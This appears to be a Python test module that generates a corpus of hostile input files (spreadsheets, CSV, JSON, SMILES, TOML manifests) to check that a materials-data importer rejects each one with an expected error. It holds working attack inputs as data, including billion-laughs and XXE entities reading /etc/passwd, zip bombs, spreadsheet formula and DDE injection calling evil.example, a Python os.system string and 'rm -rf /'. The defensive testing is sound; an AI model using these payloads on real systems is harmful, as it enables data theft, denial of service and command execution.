"""A hostile corpus, generated at test time: files built to crash, exhaust or fool a reader
(bombs, malformed archives and encodings, pathological cells, units, structures, manifests,
hostile text). Every file also holds at least one error, so none of them may load: the
database must stay exactly as it was. ``CORPUS`` maps a name to a builder that writes the
file (and a manifest when it has one) into a folder and returns its path.

Nothing large is committed: the biggest files (tens of MB) exist only while a test runs.
"""

from __future__ import annotations

import json
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

HEADER = "Material,Class,Property,Value,Unit\n"
GOOD_ROW = "Hostilene,polymer,tensile strength,10,MPa\n"
BAD_ROW = "Hostilene,polymer,tensile strength,ten,MPa\n"  # the error every file holds, when nothing else is

Builder = Callable[[Path], Path]
CORPUS: dict[str, Builder] = {}


def hostile(name: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        assert name not in CORPUS, name
        CORPUS[name] = builder
        return builder

    return register


def _csv(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(text.encode(encoding, errors="surrogatepass"))
    return path


def _bytes(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


# --- workbooks: written as raw archives, so that their parts can be anything -----------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
    "</Relationships>"
)


def _styles() -> bytes:
    """The styles part of a workbook as openpyxl writes it (readers are strict about styles)."""
    import io

    import openpyxl

    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/styles.xml")


_SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _inline(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def _rows(cells: list[list[str]]) -> str:
    """Inline-string rows from 1, the usual header and rows."""
    out = []
    for number, row in enumerate(cells, start=1):
        out.append(
            f'<row r="{number}">'
            + "".join(_inline(f"{chr(65 + column)}{number}", text) for column, text in enumerate(row))
            + "</row>"
        )
    return "".join(out)


_TABLE = HEADER.strip().split(","), BAD_ROW.strip().split(",")


def _workbook(
    folder: Path,
    name: str,
    *,
    sheet_data: str | bytes | None = None,
    shared: str | bytes = "",
    sheet: str | bytes | None = None,
    members: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> Path:
    path = folder / name
    if sheet is None:
        data = sheet_data if sheet_data is not None else _rows(list(_TABLE))
        head = _SHEET_HEAD.encode() + b"<sheetData>"
        sheet = head + (data.encode() if isinstance(data, str) else data) + b"</sheetData></worksheet>"
    shared_xml = (
        shared
        if isinstance(shared, bytes)
        else (
            '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"{shared}</sst>"
        ).encode()
    )
    parts = {
        "[Content_Types].xml": _CONTENT_TYPES.encode(),
        "_rels/.rels": _RELS.encode(),
        "xl/workbook.xml": _WORKBOOK.encode(),
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS.encode(),
        "xl/styles.xml": _styles(),
        "xl/sharedStrings.xml": shared_xml,
        "xl/worksheets/sheet1.xml": sheet if isinstance(sheet, bytes) else sheet.encode(),
        **(members or {}),
    }
    with zipfile.ZipFile(path, "w", compression) as archive:
        for member, content in parts.items():
            archive.writestr(member, content)
    return path


@hostile("xlsx-one-cell-at-XFD1048576")
def _far_cell(folder):
    return _workbook(
        folder, "far.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )


@hostile("xlsx-single-quoted-far-cell")
def _single_quoted(folder):
    return _workbook(
        folder,
        "quoted.xlsx",
        sheet_data=_rows(list(_TABLE)) + "<row r='1048576'><c r = 'XFD1048576'><v>1</v></c></row>",
    )


@hostile("xlsx-sheet-outside-the-worksheets-folder")
def _moved_sheet(folder):
    far = (
        _SHEET_HEAD + "<sheetData>" + _rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    rels = _WORKBOOK_RELS.replace('Target="worksheets/sheet1.xml"', 'Target="data/hidden/sheet1.xml"').encode()
    return _workbook(
        folder, "moved.xlsx", members={"xl/_rels/workbook.xml.rels": rels, "xl/data/hidden/sheet1.xml": far}
    )


@hostile("xlsx-extent-past-20M-cells")
def _tall(folder):
    return _workbook(
        folder, "tall.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="Z1048576"><v>1</v></c></row>'
    )


@hostile("xlsx-dimension-lies")
def _dimension(folder):
    sheet = (
        _SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>' + _rows(list(_TABLE)) + "</sheetData></worksheet>"
    )
    return _workbook(folder, "dimension.xlsx", sheet=sheet)


@hostile("xlsx-zip-bomb-200MB-of-spaces")
def _zip_bomb(folder):
    sheet = (
        _SHEET_HEAD.encode()
        + b"<sheetData>"
        + _rows(list(_TABLE)).encode()
        + b" " * (200 << 20)
        + b"</sheetData></worksheet>"
    )
    return _workbook(folder, "bomb.xlsx", sheet=sheet)


@hostile("xlsx-shared-string-300MB")
def _huge_shared(folder):
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<si><t>" + b"a" * (300 << 20) + b"</t></si></sst>"
    )
    return _workbook(
        folder,
        "shared.xlsx",
        shared=shared,
        sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>',
    )


@hostile("xlsx-shared-string-index-out-of-range")
def _shared_index(folder):
    return _workbook(
        folder, "index.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>99999999</v></c></row>'
    )


@hostile("xlsx-million-styled-empty-rows")
def _styled_rows(folder):
    empty = "".join(
        f'<row r="{n}" spans="1:5" s="0" customFormat="1"><c r="A{n}" s="0"/><c r="B{n}" s="0"/></row>'
        for n in range(3, 1_000_003)
    )
    return _workbook(folder, "styled.xlsx", sheet_data=_rows(list(_TABLE)) + empty)


@hostile("xlsx-billion-laughs-entities")
def _laughs(folder):
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{entities}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _rows(list(_TABLE))
        + '<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _workbook(folder, "laughs.xlsx", sheet=sheet)


@hostile("xlsx-external-entity")
def _external_entity(folder):
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _rows(list(_TABLE))
        + '<row r="3"><c r="A3" t="inlineStr"><is><t>&secret;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _workbook(folder, "xxe.xlsx", sheet=sheet)


@hostile("xlsx-truncated-archive")
def _truncated(folder):
    whole = _workbook(folder, "whole.xlsx").read_bytes()
    return _bytes(folder, "truncated.xlsx", whole[: len(whole) // 2])


@hostile("xlsx-that-is-a-csv")
def _not_a_zip(folder):
    return _csv(folder, "csv.xlsx", HEADER + BAD_ROW)


@hostile("xlsx-random-bytes")
def _random_xlsx(folder):
    return _bytes(folder, "random.xlsx", b"PK\x03\x04" + random.Random(1).randbytes(200_000))


@hostile("xlsx-malformed-sheet-xml")
def _malformed(folder):
    return _workbook(
        folder, "malformed.xlsx", sheet=_SHEET_HEAD + "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>x"
    )


@hostile("xlsx-deeply-nested-xml")
def _nested_xml(folder):
    sheet = (
        _SHEET_HEAD
        + "<sheetData>"
        + _rows(list(_TABLE))
        + "<x>" * 200_000
        + "</x>" * 200_000
        + "</sheetData></worksheet>"
    )
    return _workbook(folder, "nested.xlsx", sheet=sheet)


@hostile("xlsx-uncomputed-formula")
def _formula(folder):
    return _workbook(
        folder,
        "formula.xlsx",
        sheet_data=_rows([_TABLE[0]])
        + '<row r="2">'
        + _inline("A2", "X")
        + _inline("B2", "polymer")
        + _inline("C2", "tensile strength")
        + '<c r="D2"><f>1/0</f></c>'
        + _inline("E2", "MPa")
        + "</row>",
    )


@hostile("xlsx-no-sheets")
def _no_sheets(folder):
    path = folder / "nosheets.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.replace('<sheet name="Data" sheetId="1" r:id="rId1"/>', ""))
    return path


@hostile("xlsx-many-sheets-members")
def _many_members(folder):
    return _workbook(folder, "members.xlsx", members={f"xl/media/image{i}.bin": b"x" * 10 for i in range(20_000)})


# --- delimited text ----------------------------------------------------------------------------------


@hostile("csv-million-column-header")
def _wide(folder):
    return _csv(folder, "wide.csv", ",".join(f"c{i}" for i in range(1_000_000)) + "\n" + "x\n")


@hostile("csv-100k-duplicate-headers")
def _duplicate_headers(folder):
    return _csv(folder, "dups.csv", ",".join(["Material"] * 1999) + "\nx\n")


@hostile("csv-field-of-20MB")
def _big_field(folder):
    return _csv(folder, "field.csv", HEADER + f'X,polymer,tensile strength,10,"{"m" * (20 << 20)}"\n')


@hostile("csv-unclosed-quote-at-start")
def _unclosed(folder):
    return _csv(folder, "unclosed.csv", HEADER + '"X,polymer,tensile strength,10,MPa\n' + GOOD_ROW * 10_000)


@hostile("csv-50MB-line-without-newline")
def _one_line(folder):
    return _csv(folder, "line.csv", HEADER + "X," * (25 << 20))


@hostile("csv-nul-bytes")
def _nul(folder):
    return _csv(folder, "nul.csv", HEADER + "X\x00\x00,polymer,tensile strength,1\x000,MPa\n")


@hostile("csv-random-bytes")
def _random_csv(folder):
    return _bytes(folder, "random.csv", random.Random(2).randbytes(1 << 20))


@hostile("csv-utf16-without-bom")
def _utf16(folder):
    return _bytes(folder, "utf16.csv", (HEADER + BAD_ROW).encode("utf-16-le"))


@hostile("csv-mixed-encodings")
def _mixed(folder):
    return _bytes(
        folder,
        "mixed.csv",
        (HEADER + "Élastomère,polymer,tensile strength,10,MPa\n").encode("utf-8")
        + "Mixé,polymer,tensile strength,10,MPa\n".encode("cp1252"),
    )


@hostile("csv-invalid-utf8-lead")
def _invalid_utf8(folder):
    return _bytes(folder, "invalid.csv", b"\xff\xfe\xfa" + HEADER.encode() + BAD_ROW.encode())


@hostile("csv-empty-file")
def _empty(folder):
    return _csv(folder, "empty.csv", "")


@hostile("csv-header-only")
def _header_only(folder):
    return _csv(folder, "header.csv", HEADER)


@hostile("csv-delimiters-only")
def _delimiters(folder):
    return _csv(folder, "delims.csv", ",,,,\n" * 100_000)


@hostile("csv-carriage-returns-only")
def _cr(folder):
    return _csv(folder, "cr.csv", (HEADER + BAD_ROW).replace("\n", "\r") * 1000)


@hostile("csv-200k-rows-of-bad-units")
def _bad_units(folder):
    return _csv(
        folder,
        "units.csv",
        HEADER + "".join(f"M{i},polymer,tensile strength,{i},furlongs{i}\n" for i in range(200_000)),
    )


@hostile("csv-rows-wider-than-header")
def _ragged(folder):
    return _csv(folder, "ragged.csv", HEADER + "X,polymer,tensile strength,10,MPa" + ",extra" * 100_000 + "\n")


@hostile("csv-10000-digit-number")
def _digits(folder):
    return _csv(folder, "digits.csv", HEADER + f"X,polymer,tensile strength,{'9' * 10_000},MPa\n")


@hostile("csv-underflow-1e-400")
def _underflow(folder):
    return _csv(folder, "underflow.csv", "Material,Class,Property,Value,Unit\nX,polymer,elongation at break,1e-400,%\n")


@hostile("csv-overflow-1e400")
def _overflow(folder):
    return _csv(folder, "overflow.csv", HEADER + "X,polymer,tensile strength,1e400,MPa\n")


@hostile("csv-nan-and-infinity")
def _nan(folder):
    return _csv(folder, "nan.csv", HEADER + "X,polymer,tensile strength,NaN,MPa\nY,polymer,tensile strength,inf,MPa\n")


@hostile("csv-50000-spaces-then-x")
def _backtrack_spaces(folder):
    return _csv(folder, "spaces.csv", HEADER + f"X,polymer,tensile strength,1{' ' * 50_000}x,MPa\n")


@hostile("csv-range-of-100k-dashes")
def _dashes(folder):
    return _csv(folder, "dashes.csv", HEADER + "X,polymer,tensile strength," + "-".join(["1"] * 50_000) + ",MPa\n")


@hostile("csv-repeated-plus-minus")
def _plus_minus(folder):
    return _csv(folder, "pm.csv", HEADER + "X,polymer,tensile strength,1" + " ± 1" * 20_000 + ",MPa\n")


@hostile("csv-unit-nested-10k-parentheses")
def _nested_unit(folder):
    return _csv(folder, "unit-parens.csv", HEADER + f"X,polymer,tensile strength,10,{'(' * 10_000}MPa{')' * 10_000}\n")


@hostile("csv-unit-huge-exponent")
def _unit_exponent(folder):
    return _csv(
        folder,
        "unit-exp.csv",
        HEADER + "X,polymer,tensile strength,10,MPa**99999999\nY,polymer,tensile strength,10,m**10**10\n",
    )


@hostile("csv-unit-10k-divisions")
def _unit_divisions(folder):
    return _csv(folder, "unit-div.csv", HEADER + "X,polymer,tensile strength,10," + "kg/" * 10_000 + "m\n")


@hostile("csv-unit-python-expression")
def _unit_code(folder):
    return _csv(folder, "unit-code.csv", HEADER + "X,polymer,tensile strength,10,__import__('os').system('false')\n")


@hostile("csv-header-unit-pathological")
def _header_unit(folder):
    return _csv(folder, "header-unit.csv", f"Material,Class,tensile strength [{'(' * 5_000}MPa]\nX,polymer,10\n")


@hostile("csv-formula-cells")
def _formulas(folder):
    return _csv(
        folder,
        "formulas.csv",
        HEADER + '=HYPERLINK("http://evil.example/?"&A2),polymer,tensile strength,ten,MPa\n'
        "+cmd|' /C calc'!A0,polymer,tensile strength,10,MPa\n",
    )


@hostile("csv-terminal-escapes-and-bidi")
def _escapes(folder):
    return _csv(
        folder,
        "escapes.csv",
        HEADER + "\x1b[2J\x1b]8;;http://evil.example\x07X\u202e\x7f,polymer,tensile strength,ten,MPa\n",
    )


@hostile("csv-one-megabyte-name")
def _long_name(folder):
    return _csv(folder, "long-name.csv", HEADER + f"{'N' * 100_000},polymer,tensile strength,10,MPa\n")


@hostile("csv-100k-synonyms")
def _synonyms(folder):
    return _csv(
        folder,
        "synonyms.csv",
        "Material,Synonyms,Class,Property,Value,Unit\n"
        f'X,"{";".join(f"s{i}" for i in range(100_000))}",polymer,tensile strength,ten,MPa\n',
    )


@hostile("tsv-quote-storm")
def _quote_storm(folder):
    return _csv(
        folder, "quotes.tsv", HEADER.replace(",", "\t") + ('"' * 100_000) + "\tpolymer\ttensile strength\t1\tMPa\n"
    )


@hostile("csv-bom-then-garbage-header")
def _bom(folder):
    return _csv(folder, "bom.csv", "\ufeff\ufeff\ufeff" + HEADER + BAD_ROW)


# --- structures --------------------------------------------------------------------------------------


def _structure_file(folder: Path, name: str, smiles: str) -> Path:
    return _csv(
        folder, name, f"Material,Class,SMILES,Property,Value,Unit\nX,polymer,{smiles},tensile strength,10,MPa\n"
    )


@hostile("smiles-5000-atom-ring")
def _ring(folder):
    return _structure_file(folder, "ring.csv", "C1" + "C" * 4998 + "C1")


@hostile("smiles-60x60-grid")
def _grid(folder):
    return _structure_file(
        folder, "grid.csv", ".".join("".join(f"C%{10 + c % 80}" for c in range(60)) for _ in range(60))
    )


@hostile("smiles-100k-characters")
def _long_smiles(folder):
    return _structure_file(folder, "long-smiles.csv", "C" * 100_000)


@hostile("smiles-10k-nested-branches")
def _branches(folder):
    return _structure_file(folder, "branches.csv", "C(" * 5_000 + "C" + ")" * 5_000)


@hostile("smiles-garbage")
def _garbage_smiles(folder):
    return _structure_file(folder, "garbage-smiles.csv", "[[[C@@@@@@H]]]%%%99")


@hostile("smiles-huge-isotope-and-charge")
def _isotope(folder):
    return _structure_file(folder, "isotope.csv", "[99999999999C+999999]")


@hostile("smiles-many-ring-closures")
def _closures(folder):
    return _structure_file(
        folder,
        "closures.csv",
        "C" + "".join(f"%{n}" for n in range(10, 99)) * 4 + "C" + "".join(f"%{n}" for n in range(10, 99)) * 4,
    )


# --- JSON ---------------------------------------------------------------------------------------------


@hostile("json-sparse-20k-keys")
def _sparse(folder):
    return _csv(folder, "sparse.json", json.dumps([{"Material": f"M{i}", f"key {i}": 1} for i in range(20_000)]))


@hostile("json-duplicate-keys")
def _json_duplicates(folder):
    return _csv(
        folder,
        "dupkeys.json",
        '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
        '"Value": "10", "Value": "20", "Unit": "MPa"}]',
    )


@hostile("json-nested-100k-deep")
def _json_deep(folder):
    return _csv(folder, "deep.json", "[" * 100_000 + "]" * 100_000)


@hostile("json-nested-objects-in-cells")
def _json_objects(folder):
    return _csv(
        folder,
        "objects.json",
        json.dumps(
            [
                {
                    "Material": {"a": [1, {"b": 2}]},
                    "Class": "polymer",
                    "Property": "tensile strength",
                    "Value": [1, 2],
                    "Unit": "MPa",
                }
            ]
        ),
    )


@hostile("json-top-level-scalar")
def _json_scalar(folder):
    return _csv(folder, "scalar.json", "42")


@hostile("json-50MB-string")
def _json_big_string(folder):
    return _csv(folder, "bigstring.json", json.dumps([{"Material": "X" * (50 << 20), "Class": "polymer"}]))


@hostile("json-truncated")
def _json_truncated(folder):
    return _csv(folder, "truncated.json", '[{"Material": "X", "Class": "poly')


@hostile("json-nan-literals")
def _json_nan(folder):
    return _csv(
        folder,
        "nan.json",
        '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
        '"Value": NaN, "Unit": "MPa"}, {"Material": "Y", "Value": Infinity}]',
    )


@hostile("json-lone-surrogates")
def _json_surrogates(folder):
    return _csv(
        folder,
        "surrogates.json",
        '[{"Material": "X\\ud800", "Class": "polymer", "Property": "tensile strength", "Value": "ten", "Unit": "MPa"}]',
    )


# --- manifests ----------------------------------------------------------------------------------------


def _with_manifest(folder: Path, name: str, manifest: str, data: str = HEADER + GOOD_ROW) -> Path:
    path = _csv(folder, name, data)
    (folder / f"{path.name}.manifest.toml").write_text(manifest, encoding="utf-8")
    return path


@hostile("manifest-dataset-name-with-nul")
def _manifest_nul(folder):
    return _with_manifest(folder, "nul-name.csv", '[dataset]\nname = "evil\\u0000name"\n')


@hostile("manifest-dataset-name-100k")
def _manifest_long(folder):
    return _with_manifest(folder, "long-name.csv", f'[dataset]\nname = "{"d" * 100_000}"\n')


@hostile("manifest-deeply-nested-arrays")
def _manifest_deep(folder):
    return _with_manifest(folder, "deep.csv", "[dataset]\nname = " + "[" * 50_000 + "]" * 50_000 + "\n")


@hostile("manifest-not-toml")
def _manifest_garbage(folder):
    return _with_manifest(folder, "garbage.csv", "\x00\x01 this = is [not toml\n")


@hostile("manifest-not-utf8")
def _manifest_latin1(folder):
    path = _csv(folder, "latin1.csv", HEADER + GOOD_ROW)
    (folder / "latin1.csv.manifest.toml").write_bytes('[dataset]\nname = "Mixé"\n'.encode("cp1252"))
    return path


@hostile("manifest-sections-of-the-wrong-type")
def _manifest_types(folder):
    return _with_manifest(folder, "types.csv", 'dataset = 5\nconditions = "x"\ncolumns = [1, 2]\n')


@hostile("manifest-unknown-keys-and-bad-temperature")
def _manifest_unknown(folder):
    return _with_manifest(
        folder, "unknown.csv", '[conditions]\ntemperature = "hot"\n[columns."Value"]\nexec = "rm -rf /"\n'
    )


@hostile("manifest-column-keys-of-the-wrong-type")
def _manifest_column_types(folder):
    return _with_manifest(
        folder,
        "column-types.csv",
        '[columns."Value"]\nunit = 5\nproperty = ["a", "b"]\n[columns."Unit"]\nconditions = "hot"\n',
    )


@hostile("manifest-bad-doi")
def _manifest_doi(folder):
    return _with_manifest(folder, "doi.csv", '[dataset]\ndoi = "javascript:alert(1)"\n')


# The refusal each file must get: an error of this type among its report's errors (the row,
# column or limit it names is checked by the tests of each reader).
EXPECTED = {
    "csv-10000-digit-number": "non-finite-number",
    "csv-100k-duplicate-headers": "duplicate-label",
    "csv-100k-synonyms": "limit-exceeded",
    "csv-200k-rows-of-bad-units": "unit-error",
    "csv-50000-spaces-then-x": "unknown-unit",
    "csv-50MB-line-without-newline": "extra-cell",
    "csv-bom-then-garbage-header": "type-error",
    "csv-carriage-returns-only": "type-error",
    "csv-delimiters-only": "empty-file",
    "csv-empty-file": "empty-file",
    "csv-field-of-20MB": "limit-exceeded",
    "csv-formula-cells": "type-error",
    "csv-header-only": "empty-table",
    "csv-header-unit-pathological": "unit-error",
    "csv-invalid-utf8-lead": "encoding-error",
    "csv-million-column-header": "limit-exceeded",
    "csv-mixed-encodings": "encoding-error",
    "csv-nan-and-infinity": "non-finite-number",
    "csv-nul-bytes": "encoding-error",
    "csv-one-megabyte-name": "constraint-error",
    "csv-overflow-1e400": "non-finite-number",
    "csv-random-bytes": "format-error",
    "csv-range-of-100k-dashes": "type-error",
    "csv-repeated-plus-minus": "unknown-unit",
    "csv-rows-wider-than-header": "extra-cell",
    "csv-terminal-escapes-and-bidi": "type-error",
    "csv-unclosed-quote-at-start": "limit-exceeded",
    "csv-underflow-1e-400": "number-underflow",
    "csv-unit-10k-divisions": "unknown-unit",
    "csv-unit-huge-exponent": "unknown-unit",
    "csv-unit-nested-10k-parentheses": "unknown-unit",
    "csv-unit-python-expression": "unknown-unit",
    "csv-utf16-without-bom": "format-error",
    "json-50MB-string": "constraint-error",
    "json-duplicate-keys": "duplicate-label",
    "json-lone-surrogates": "format-error",
    "json-nan-literals": "format-error",
    "json-nested-100k-deep": "format-error",
    "json-nested-objects-in-cells": "format-error",
    "json-sparse-20k-keys": "limit-exceeded",
    "json-top-level-scalar": "format-error",
    "json-truncated": "format-error",
    "manifest-bad-doi": "doi-error",
    "manifest-column-keys-of-the-wrong-type": "manifest-error",
    "manifest-dataset-name-100k": "constraint-error",
    "manifest-dataset-name-with-nul": "constraint-error",
    "manifest-deeply-nested-arrays": "manifest-error",
    "manifest-not-toml": "manifest-error",
    "manifest-not-utf8": "manifest-error",
    "manifest-sections-of-the-wrong-type": "manifest-error",
    "manifest-unknown-keys-and-bad-temperature": "manifest-error",
    "smiles-100k-characters": "structure-error",
    "smiles-10k-nested-branches": "structure-error",
    "smiles-5000-atom-ring": "structure-error",
    "smiles-60x60-grid": "structure-error",
    "smiles-garbage": "structure-error",
    "smiles-huge-isotope-and-charge": "structure-error",
    "smiles-many-ring-closures": "structure-error",
    "tsv-quote-storm": "constraint-error",
    "xlsx-billion-laughs-entities": "format-error",
    "xlsx-deeply-nested-xml": "limit-exceeded",
    "xlsx-dimension-lies": "type-error",
    "xlsx-extent-past-20M-cells": "limit-exceeded",
    "xlsx-single-quoted-far-cell": "limit-exceeded",
    "xlsx-sheet-outside-the-worksheets-folder": "limit-exceeded",
    "xlsx-external-entity": "format-error",
    "xlsx-malformed-sheet-xml": "format-error",
    "xlsx-many-sheets-members": "type-error",
    "xlsx-million-styled-empty-rows": "type-error",
    "xlsx-no-sheets": "format-error",
    "xlsx-one-cell-at-XFD1048576": "limit-exceeded",
    "xlsx-random-bytes": "format-error",
    "xlsx-shared-string-300MB": "limit-exceeded",
    "xlsx-shared-string-index-out-of-range": "format-error",
    "xlsx-that-is-a-csv": "format-error",
    "xlsx-truncated-archive": "format-error",
    "xlsx-uncomputed-formula": "format-error",
    "xlsx-zip-bomb-200MB-of-spaces": "limit-exceeded",
}
